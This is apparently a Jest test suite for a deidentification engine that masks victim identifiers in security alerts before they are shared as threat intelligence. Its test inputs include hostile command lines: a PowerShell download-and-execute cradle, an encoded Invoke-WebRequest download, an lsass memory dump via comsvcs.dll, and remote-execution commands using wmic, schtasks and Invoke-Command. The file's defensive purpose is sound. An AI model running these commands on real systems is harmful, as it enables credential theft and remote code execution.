import { deterministicId, SanitizedEvent } from '@kyoyu/contracts';
import { gzipSync } from 'node:zlib';
import { baseAlert, CUSTOMER, holdCodes, KEY, leaks, OTHER_KEY, whenDeidentified } from '../testing/fixtures';

const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const psEncoded = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');

describe('deidentify: every hiding place of a victim identifier is masked', () => {
  const cases: Array<[string, string]> = [
    ['English org name', 'Targeted attack against Example Corporation finance staff'],
    ['org name without legal form, other case', 'EXAMPLE CORP staff got the payload'],
    [
      'kanji/kana legal name',
      '株式会社エグザンプル の経理部で検知'.replace(' の経理部で検知', ' host compromised'),
    ],
    ['full-width Latin', 'Beacon to ｗｗｗ．ｅｘａｍｐｌｅ．ｃｏ．ｊｐ observed'],
    ['half-width kana', 'ｴｸﾞｻﾞﾝﾌﾟﾙ attack'],
    ['romaji keyword and brand', 'Ekusanpuru online banking (ExaBank) credential theft'],
    ['domain inside URL', 'GET https://portal.example.co.jp/login from attacker'],
    ['UNC path', 'Lateral movement to \\\\FS01.corp.example.co.jp\\share\\drop.exe'],
    ['user profile path', 'Dropped C:\\Users\\taro.yamada\\AppData\\Local\\Temp\\x.exe'],
    [
      'command line with NetBIOS user',
      'cmd.exe /c net use \\\\10.20.30.41\\c$ /user:EXCORP\\hanako.sato P@ss',
    ],
    [
      'PowerShell -EncodedCommand (UTF-16LE base64)',
      `powershell.exe -enc ${psEncoded('Invoke-WebRequest http://intra.example.co.jp/a -OutFile C:\\x.exe')}`,
    ],
    [
      'gzip inside base64',
      `payload=${gzipSync(Buffer.from('connect to files.example.co.jp now')).toString('base64')}`,
    ],
    ['base64url', `token ${Buffer.from('user=hanako@example.co.jp;x=1').toString('base64url')}`],
    ['URL-encoded', 'GET /redirect?next=https%3A%2F%2Fmail.example.co.jp%2Fowa'],
    ['double URL-encoded', 'GET /r/https%253A%252F%252Fmail.example.co.jp%252Fowa'],
    ['hex', `data 6d61696c2e6578616d706c652e636f2e6a70 sent`],
    ['\\x hex', 'shellcode \\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2e\\x63\\x6f\\x2e\\x6a\\x70 seen'],
    ['HTML entities', 'Form posted to &#101;&#120;ample&period;co&#46;jp/login'],
    ['MIME encoded word', 'Subject: =?UTF-8?B?' + b64('エグザンプル 請求書') + '?='],
    ['punycode IDN', 'Callback to xn--r8jz45g.jp observed'],
    ['Unicode IDN', 'Callback to 例え.jp observed'],
    ['defanged', 'IOC hxxps://vpn[.]example[.]co[.]jp/remote'],
    ['dotted internal IP', 'Scan from 10.20.30.40 to others'],
    ['zero-padded IP', 'Scan from 010.020.030.040'],
    ['integer IP', 'http://169090600/payload'],
    ['hex IP', 'http://0x0A141E28/payload'],
    ['dashed IP', 'host ip-10-20-30-40.ap-northeast-1.compute.internal'],
    ['reverse DNS', 'PTR 40.30.20.10.in-addr.arpa queried'],
    ['IPv4-mapped IPv6', 'peer ::ffff:10.20.30.40 connected'],
    ['exploded ULA IPv6', 'peer fd12:3456:789a:0001:0000:0000:0000:0001 connected'],
    ['customer public range', 'egress NAT 203.0.113.77 seen'],
    ['customer public v6 range', 'egress 2001:db8:1234:5::10 seen'],
    [
      'certificate subject',
      'TLS subject CN=vpn.example.co.jp, O=Example Corporation, emailAddress=it@example.co.jp',
    ],
    [
      'e-mail headers',
      'To: Hanako <hanako.sato@gmail.com>\nDelivered-To: it@exco.onmicrosoft.com\nFrom: evil@phish.top',
    ],
    ['registry key with SID', 'Set HKU\\S-1-5-21-1004336348-1177238915-682003330-1104\\Software\\Run'],
    ['cloud account id', 'AssumeRole arn:aws:iam::123456789012:role/admin'],
    ['SIEM tenant id', 'forwarded by wazuh-exco-prod manager'],
    ['learned host name in free text', 'Beacon from web01 every 60s'],
  ];

  test.each(cases)('%s', (_name, text) => {
    const result = whenDeidentified({ alert: baseAlert({ description: text }) });
    const out = JSON.stringify(result.event);
    expect(leaks(out)).toEqual([]);
    expect(out).not.toMatch(/hanako|1104|10\.20\.30\.41|fd12:/i);
    expect(holdCodes(result)).not.toContain('EGRESS_GUARD');
    expect(result.transformations.some((t) => t.field === 'description')).toBe(true);
  });

  test('a victim part inside an encoded blob is re-encoded, the rest of the blob kept', () => {
    const cmd = 'IEX (New-Object Net.WebClient).DownloadString("http://intra.example.co.jp/s.ps1")';
    const result = whenDeidentified({
      alert: baseAlert({ description: `powershell -enc ${psEncoded(cmd)}` }),
    });
    const blob = /-enc (\S+)/.exec(result.event.description ?? '')?.[1] ?? '';
    expect(Buffer.from(blob, 'base64').toString('utf16le')).toBe(
      'IEX (New-Object Net.WebClient).DownloadString("http://<host-' +
        Buffer.from(blob, 'base64').toString('utf16le').split('<host-')[1],
    );
    expect(Buffer.from(blob, 'base64').toString('utf16le')).toContain('<victim-domain>/s.ps1');
  });

  test('paths and UNC paths keep the attacker-relevant rest', () => {
    const result = whenDeidentified({
      alert: baseAlert({
        description: 'C:\\Users\\taro.yamada\\AppData\\x.exe copied to \\\\FS01.corp.example.co.jp\\share',
      }),
    });
    expect(result.event.description).toMatch(
      /^C:\\Users\\<user-[0-9a-f]{6}>\\AppData\\x\.exe copied to \\\\<host-[0-9a-f]{6}>\.<victim-domain>\\share$/,
    );
  });
});

describe('deidentify: attacker indicators and technique data are kept', () => {
  const result = whenDeidentified({ alert: baseAlert() });

  test('external attacker IP, C2 domain, URL (query masked), hash, JA3, CVE survive; victim IP does not', () => {
    expect(result.event.indicators).toEqual([
      { type: 'ipv4', value: '185.220.101.4', role: 'attacker' },
      { type: 'domain', value: 'update-check.badc2.net', role: 'attacker' },
      {
        type: 'url',
        value: 'http://update-check.badc2.net/gate.php?id=<masked>&u=<masked>',
        role: 'attacker',
      },
      {
        type: 'sha256',
        value: 'a3f5c1e2b4d6a8f0c2e4b6d8f0a2c4e6b8d0f2a4c6e8b0d2f4a6c8e0b2d4f6a8',
        role: 'attacker',
      },
      { type: 'ja3', value: '72a589da586844d7f0818ce684948eea', role: 'attacker' },
      { type: 'cve', value: 'CVE-2017-5638', role: 'attacker' },
    ]);
    expect(result.event.cves).toEqual(['CVE-2017-5638']);
    expect(result.event.techniques.map((t) => t.id)).toEqual(['T1190', 'T1059.001']);
    expect(result.event.signature).toEqual({ id: '2024217', name: 'ET EXPLOIT Apache Struts OGNL' });
  });

  test('a clean realistic alert is released and passes the SanitizedEvent schema', () => {
    expect(result.decision).toBe('release');
    expect(result.reasons).toEqual([]);
    expect(() => SanitizedEvent.parse(result.event)).not.toThrow();
    expect(result.event.eventId).toBe(deterministicId('event', 'alert-0001'));
    expect(result.event.observedAt).toBe('2025-03-01T09:00:00.000Z');
    expect(result.event.context).toEqual({ sector: 'finance', country: 'JP' });
    expect(result.event.distribution).toEqual({
      tlp: 'green',
      audience: { kind: 'all' },
      agreementVersion: 3,
    });
  });

  test('a command line of only known tokens is released', () => {
    const r = whenDeidentified({
      alert: baseAlert({
        texts: [
          {
            field: 'process.command_line',
            text: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full',
          },
        ],
      }),
    });
    expect(r.decision).toBe('release');
  });

  test('private rule ids and the detecting product are dropped', () => {
    const r = whenDeidentified({
      alert: baseAlert({ rule: { id: 'EXCO-CUSTOM-0042', name: 'exco custom', public: false } }),
    });
    expect(r.event.signature).toBeUndefined();
    expect(JSON.stringify(r.event)).not.toMatch(/EXCO-CUSTOM|Wazuh/);
    expect(r.transformations).toEqual(
      expect.arrayContaining([
        { field: 'rule', class: 'private-rule', action: 'drop', rule: 'R-PRIVATE-RULE' },
        { field: 'product', class: 'detecting-product', action: 'drop', rule: 'R-PRODUCT' },
      ]),
    );
  });

  test('direction decides: an external peer of an inbound flow is the attacker even when ingestion guessed victim', () => {
    const alert = baseAlert();
    alert.indicators[0] = { type: 'ipv4', value: '185.220.101.4', role: 'victim', field: 'source.ip' };
    alert.indicators.push({ type: 'ipv4', value: '198.51.100.9', role: 'victim', field: 'host.ip' });
    const r = whenDeidentified({ alert });
    expect(r.event.indicators).toContainEqual({ type: 'ipv4', value: '185.220.101.4', role: 'attacker' });
    expect(JSON.stringify(r.event)).not.toContain('198.51.100.9');
  });

  test('registry ranges win over the hint: an "attacker" address in the customer range is dropped', () => {
    const alert = baseAlert();
    alert.indicators.push({ type: 'ipv4', value: '203.0.113.5', role: 'attacker', field: 'source.ip' });
    expect(JSON.stringify(whenDeidentified({ alert }).event)).not.toContain('203.0.113');
  });

  test('sector and country released only when k-anonymous', () => {
    const r = whenDeidentified({
      alert: baseAlert(),
      kView: { customersWithSector: () => 2, customersWithCountry: () => 3 },
    });
    expect(r.event.context).toEqual({ country: 'JP' });
  });

  test('time coarsened to the day when asked', () => {
    expect(
      whenDeidentified({ alert: baseAlert(), options: { timeGranularity: 'day' } }).event.observedAt,
    ).toBe('2025-03-01T00:00:00.000Z');
  });

  test('transformations never carry the removed value', () => {
    const r = whenDeidentified({
      alert: baseAlert({ description: 'taro.yamada on web01.corp.example.co.jp 10.20.30.40' }),
    });
    expect(leaks(JSON.stringify(r.transformations))).toEqual([]);
    expect(r.transformations).toContainEqual({
      field: 'description',
      class: 'ip-internal',
      action: 'mask',
      rule: 'R-IP-INTERNAL',
    });
  });
});

describe('deidentify: traps are held for review', () => {
  test.each([
    ['brand inside the domain', 'example-login.com'],
    ['edit distance 1', 'exampel.co.jp'],
    ['rn for m', 'exarnple.co.jp'],
    ['digit homoglyph', 'examp1e.jp'],
    ['same label, other suffix', 'example.com'],
    ['Cyrillic homoglyph (IDN)', 'xn--xampl-ywef.co.jp'],
  ])('lookalike domain: %s', (_name, domain) => {
    const alert = baseAlert();
    alert.indicators.push({ type: 'domain', value: domain, role: 'attacker', field: 'dns.question.name' });
    const r = whenDeidentified({ alert });
    expect(r.decision).toBe('hold');
    expect(holdCodes(r)).toContain('LOOKALIKE_DOMAIN');
  });

  test('an unrelated attacker domain is not a lookalike', () => {
    const alert = baseAlert();
    alert.indicators.push({
      type: 'domain',
      value: 'cdn-sync.evilcorp.ru',
      role: 'attacker',
      field: 'dns.question.name',
    });
    expect(holdCodes(whenDeidentified({ alert }))).not.toContain('LOOKALIKE_DOMAIN');
  });

  test('a phishing subject naming the victim', () => {
    const alert = baseAlert({
      techniques: [{ id: 'T1566.001', known: true }],
      texts: [{ field: 'email.subject', text: '【重要】エグザンプル 経理部 様 請求書のご確認' }],
    });
    const r = whenDeidentified({ alert });
    expect(holdCodes(r)).toContain('VICTIM_NAMED_IN_CONTENT');
  });

  test('a ransom note addressing the victim', () => {
    const alert = baseAlert({
      texts: [{ field: 'file.ransom_note', text: 'Dear Example Corporation, your files are encrypted.' }],
    });
    expect(holdCodes(whenDeidentified({ alert }))).toContain('VICTIM_NAMED_IN_CONTENT');
  });

  test('released free text the engine cannot classify (a name in kanji)', () => {
    const alert = baseAlert({ description: 'ログオン失敗 利用者 山田花子 端末 不明' });
    expect(holdCodes(whenDeidentified({ alert }))).toContain('UNCLASSIFIED_TEXT');
  });

  test('agreement without auto-release, TLP red, risk over threshold', () => {
    const customer = {
      ...CUSTOMER,
      agreement: { ...CUSTOMER.agreement, autoRelease: false, defaultTlp: 'red' as const },
    };
    expect(holdCodes(whenDeidentified({ alert: baseAlert(), customer }))).toEqual(
      expect.arrayContaining(['AGREEMENT_REQUIRES_REVIEW', 'TLP_RED']),
    );
    expect(holdCodes(whenDeidentified({ alert: baseAlert(), options: { riskThreshold: 0 } }))).toContain(
      'RISK_THRESHOLD',
    );
  });

  test('a held item still carries a sanitized draft', () => {
    const r = whenDeidentified({
      alert: baseAlert({
        description: 'Dear Example Corporation',
        techniques: [{ id: 'T1486', known: true }],
      }),
    });
    expect(r.decision).toBe('hold');
    expect(r.event.description).toBe('Dear <victim-org>');
    expect(r.risk).toBeGreaterThan(0);
  });
});

describe('deidentify: pseudonyms and determinism', () => {
  const pseudonymOf = (desc: string, alertId = 'alert-0001', key = KEY): string => {
    const r = whenDeidentified({ alert: baseAlert({ id: alertId, description: desc }), key });
    return /<user-[0-9a-f]{6}>/.exec(r.event.description ?? '')?.[0] ?? 'none';
  };

  test('the same user gets the same pseudonym within an incident, wherever it appears', () => {
    const r = whenDeidentified({
      alert: baseAlert({
        description: 'taro.yamada / C:\\Users\\taro.yamada\\x / EXCORP\\taro.yamada / TARO.YAMADA',
      }),
    });
    const ps = new Set((r.event.description ?? '').match(/<user-[0-9a-f]{6}>/g));
    expect(ps.size).toBe(1);
  });

  test('different across incidents and keys, and not a plain hash', () => {
    const a = pseudonymOf('taro.yamada');
    expect(a).not.toBe('none');
    expect(pseudonymOf('taro.yamada', 'alert-0002')).not.toBe(a);
    expect(pseudonymOf('taro.yamada', 'alert-0001', OTHER_KEY)).not.toBe(a);
    const plain = require('node:crypto').createHash('sha256').update('taro.yamada').digest('hex').slice(0, 6);
    expect(a).not.toContain(plain);
  });

  test('the case id is opaque and keyed', () => {
    const a = whenDeidentified({ alert: baseAlert() }).event.caseId;
    expect(a).not.toContain('alert-0001');
    expect(whenDeidentified({ alert: baseAlert(), key: OTHER_KEY }).event.caseId).not.toBe(a);
  });

  test('the same input gives the same output', () => {
    const alert = baseAlert({ description: 'taro.yamada on web01 via 10.20.30.40' });
    expect(whenDeidentified({ alert })).toEqual(whenDeidentified({ alert }));
  });

  test('embargo computed from the agreement and now', () => {
    const customer = { ...CUSTOMER, agreement: { ...CUSTOMER.agreement, embargoHours: 24 } };
    expect(whenDeidentified({ alert: baseAlert(), customer }).event.distribution.embargoUntil).toBe(
      '2025-03-02T12:34:56.000Z',
    );
  });
});

describe('deidentify: lookalikes in free text', () => {
  test('a lookalike named only in the description holds the item', () => {
    const r = whenDeidentified({
      alert: baseAlert({
        description: 'Phishing kit hosted at https://secure-exarnple.co.jp.verify-login.top/auth',
      }),
    });
    expect(holdCodes(r)).toContain('LOOKALIKE_DOMAIN');
  });
  test('the victim’s own host names in free text are not lookalikes', () => {
    const r = whenDeidentified({
      alert: baseAlert({ description: 'Beacon from web01.corp.example.co.jp and mail.example.co.jp' }),
    });
    expect(holdCodes(r)).not.toContain('LOOKALIKE_DOMAIN');
    expect(r.decision).toBe('release');
  });
});

describe('deidentify: classes of fixes found by the evaluation set', () => {
  const released = (r: ReturnType<typeof whenDeidentified>): string => JSON.stringify(r.event);

  test('Japanese SOC vocabulary in released text is classified and released; residue elsewhere is not released', () => {
    const r = whenDeidentified({
      alert: baseAlert({
        description: '株式会社エグザンプルの端末で不審な通信を検知しました。宛先 update-check.badc2.net',
        texts: [{ field: 'message', text: '利用者 山田花子 端末 不明' }],
      }),
    });
    expect(holdCodes(r)).not.toContain('UNCLASSIFIED_TEXT');
    expect(r.event.description).toBe(
      '<victim-org>の端末で不審な通信を検知しました。宛先 update-check.badc2.net',
    );
    expect(released(r)).not.toContain('山田花子');
  });

  test('a single-label UNC host and remote-execution switches name victim machines', () => {
    const r = whenDeidentified({
      alert: baseAlert({
        description:
          'copy \\\\FS-BACKUP02\\ADMIN$\\x.exe; wmic /node:HR-LT-0042 process call create x; schtasks /s PAYROLL01 /run; Invoke-Command -ComputerName SQL-07',
      }),
    });
    for (const host of ['FS-BACKUP02', 'HR-LT-0042', 'PAYROLL01', 'SQL-07'])
      expect(released(r)).not.toContain(host);
    expect(r.event.description).toMatch(/^copy \\\\<host-[0-9a-f]{6}>\\ADMIN\$\\x\.exe; wmic \/node:<host-/);
    expect(r.transformations).toContainEqual({
      field: 'description',
      class: 'host-name',
      action: 'pseudonymize',
      rule: 'R-UNC-HOST',
    });
  });

  test('the display name of a victim address goes with it; an attacker sender keeps its name', () => {
    const r = whenDeidentified({
      alert: baseAlert({
        description: 'From: "IT Helpdesk" <it@badc2.net> Reply-To: 佐藤 花子 <hanako.sato@example.co.jp>',
      }),
    });
    expect(released(r)).not.toContain('佐藤');
    expect(r.event.description).toContain('"IT Helpdesk" <it@badc2.net>');
    expect(r.event.description).toContain('<person>');
  });

  test("the customer's prefecture and city are masked in text (quasi-identifiers)", () => {
    const customer = { ...CUSTOMER, region: { country: 'JP', prefecture: 'Hokkaido', city: 'Asahikawa' } };
    const r = whenDeidentified({
      customer,
      alert: baseAlert({
        description: 'Beacon from the Asahikawa plant (hokkaido) to update-check.badc2.net',
      }),
    });
    expect(r.event.description).toBe(
      'Beacon from the <victim-region> plant (<victim-region>) to update-check.badc2.net',
    );
  });

  test('a host under the victim domain in any indicator is learned and masked in free text', () => {
    const alert = baseAlert({
      description: 'Exploit against HR-WEB07 succeeded',
      indicators: [{ type: 'domain', value: 'hr-web07.corp.example.co.jp', role: 'unknown', field: 'dhost' }],
    });
    const r = whenDeidentified({ alert });
    expect(released(r)).not.toMatch(/hr-web07/i);
  });

  test('sector and country each common but rare together: the country is not released', () => {
    const kView = {
      customersWithSector: () => 9,
      customersWithCountry: () => 9,
      customersWithSectorAndCountry: () => 1,
    };
    const r = whenDeidentified({ alert: baseAlert(), kView });
    expect(r.event.context).toEqual({ sector: 'finance' });
    expect(r.transformations).toContainEqual({
      field: 'context.country',
      class: 'region',
      action: 'drop',
      rule: 'R-K-SECTOR-COUNTRY-RARE',
    });
  });

  test('Japanese text in UTF-16LE base64 is decoded and masked', () => {
    const blob = Buffer.from('請求書 株式会社エグザンプル 御中', 'utf16le').toString('base64');
    const r = whenDeidentified({ alert: baseAlert({ description: `attachment body ${blob}` }) });
    expect(r.event.description).not.toContain(blob);
    const decoded = Buffer.from((r.event.description ?? '').split(' ').pop() ?? '', 'base64').toString(
      'utf16le',
    );
    expect(decoded).toBe('請求書 <victim-org> 御中');
  });

  test('an even-length ASCII blob is read as UTF-8, not as kanji-range UTF-16', () => {
    const text = '\\\\FS01.corp.example.co.jp\\shares'; // 32 bytes: even
    const hex = [...Buffer.from(text)].map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('');
    const r = whenDeidentified({ alert: baseAlert({ description: `strings: ${hex}` }) });
    expect(holdCodes(r)).not.toContain('EGRESS_GUARD');
    expect(r.event.description).not.toContain(hex);
  });

  test('a name glued with underscores (per-victim ransom note file) is masked', () => {
    const r = whenDeidentified({ alert: baseAlert({ description: 'dropped README_EXABANK_RESTORE.txt' }) });
    expect(r.event.description).toBe('dropped README_<victim-org>_RESTORE.txt');
  });
});

describe('deidentify: the released event is a value of its own', () => {
  test('it does not share the agreement audience with the registry entry', () => {
    const r = whenDeidentified({ alert: baseAlert() });
    expect(r.event.distribution.audience).toEqual(CUSTOMER.agreement.audience);
    expect(r.event.distribution.audience).not.toBe(CUSTOMER.agreement.audience);
  });

  test('a draft outside the SanitizedEvent bounds is held with SCHEMA, not released', () => {
    const alert = baseAlert();
    const r = whenDeidentified({ alert: { ...alert, severity: { ...alert.severity, score: 100.5 } } });
    expect(SanitizedEvent.safeParse(r.event).success).toBe(false);
    expect(r.decision).toBe('hold');
    expect(holdCodes(r)).toContain('SCHEMA');
  });
});

describe('deidentify: quasi-identifiers of the agreement and the count', () => {
  test.each([
    [1, '1'],
    [7, '2-9'],
    [42, '10-99'],
    [999, '100-999'],
    [123456, '1000+'],
  ])('a native count of %d is shared only as the bucket %s', (count, bucket) => {
    const r = whenDeidentified({ alert: baseAlert({ occurrences: count }) });
    expect(r.event.occurrences).toBe(bucket);
    expect(JSON.stringify(r.event)).not.toContain(`"occurrences":${count}`);
  });

  test('no count in, no count out', () => {
    expect(whenDeidentified({ alert: baseAlert() }).event.occurrences).toBeUndefined();
  });

  test('an agreement that keeps the submitting SOC unnamed marks the event for an anonymous producer', () => {
    const anonymous = { ...CUSTOMER, agreement: { ...CUSTOMER.agreement, nameSubmittingSoc: false } };
    expect(
      whenDeidentified({ alert: baseAlert(), customer: anonymous }).event.distribution.anonymousProducer,
    ).toBe(true);
    expect(whenDeidentified({ alert: baseAlert() }).event.distribution.anonymousProducer).toBeUndefined();
  });
});
